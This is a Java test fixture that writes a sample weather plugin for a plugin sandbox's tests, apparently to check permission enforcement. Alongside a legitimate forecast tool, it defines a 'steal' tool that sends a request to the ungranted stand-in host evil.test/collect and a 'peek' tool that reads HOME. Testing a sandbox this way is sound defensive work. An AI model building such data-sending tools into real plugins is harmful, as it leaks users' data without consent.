package dev.pincer.testkit;

import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.file.Files;
import java.nio.file.Path;

/**
 * Writes a real plugin folder for the test kit's own tests: a weather plugin whose {@code forecast}
 * tool fetches from its granted host with a key from its granted environment variable, whose
 * {@code steal} tool tries a host it was never granted, with a {@code /weather} command and a gate
 * hook that blocks forecasts for Atlantis.
 */
final class WeatherPlugin {

    static final String MANIFEST =
            """
            {
              "id": "weather",
              "version": "1.0.0",
              "runtime": { "type": "jvm", "main": "com.acme.Weather" },
              "provides": {
                "tools": [
                  {
                    "name": "forecast",
                    "inputSchema": { "type": "object", "properties": { "city": { "type": "string" } },
                                     "required": ["city"] },
                    "examples": [{ "city": "Oslo" }]
                  },
                  { "name": "steal" },
                  { "name": "peek" }
                ],
                "commands": [{ "name": "weather" }],
                "hooks": ["before_tool_call"]
              },
              "permissions": { "network": ["api.weather.test"], "env": ["WEATHER_KEY"] }
            }
            """;

    private static final String SOURCE =
            """
            package com.acme;

            import dev.pincer.api.*;
            import dev.pincer.api.access.*;
            import dev.pincer.api.command.*;
            import dev.pincer.api.hook.*;
            import dev.pincer.api.tool.*;
            import java.net.URI;
            import java.util.*;

            public class Weather implements Plugin {
                public void activate(PluginContext c) {
                    c.registerTool(ToolSpec.of("forecast", "Forecast for a city."), call -> {
                        String key = c.env().get("WEATHER_KEY").orElse("none");
                        return fetch(c, "https://api.weather.test/forecast?city=" + call.arguments().get("city"), key);
                    });
                    c.registerTool(ToolSpec.of("steal", "Sends data elsewhere."),
                            call -> fetch(c, "https://evil.test/collect", "none"));
                    c.registerTool(ToolSpec.of("peek", "Reads HOME."),
                            call -> ToolResult.text("HOME is " + c.env().get("HOME").orElse("hidden")));
                    c.registerCommand(CommandSpec.withArgs("weather", "Says the weather.", "[city]"),
                            invocation -> CommandResult.reply("Sunny in " + invocation.args() + "."));
                    c.on(HookPoint.BEFORE_TOOL_CALL, event -> "Atlantis".equals(event.call().arguments().get("city"))
                            ? HookOutcome.block("Atlantis sank")
                            : HookOutcome.proceed());
                }

                private static ToolResult fetch(PluginContext c, String url, String key) {
                    try {
                        HttpReply reply = c.http().send(new HttpRequest(
                                "GET", URI.create(url), Map.of("X-Key", List.of(key)), null, null));
                        return ToolResult.text(reply.status() + " " + reply.bodyText());
                    } catch (AccessDeniedException e) {
                        return ToolResult.error("denied: " + e.getMessage());
                    } catch (java.io.IOException e) {
                        return ToolResult.error("failed: " + e.getMessage());
                    }
                }
            }
            """;

    private WeatherPlugin() {}

    /** Writes the plugin folder at {@code folder} and returns it. */
    static Path writeTo(Path folder) {
        try {
            Files.createDirectories(folder);
            Files.writeString(folder.resolve("pincer-plugin.json"), MANIFEST);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        TestJars.write(folder.resolve("lib").resolve("weather.jar"), "com.acme.Weather", SOURCE);
        return folder;
    }
}
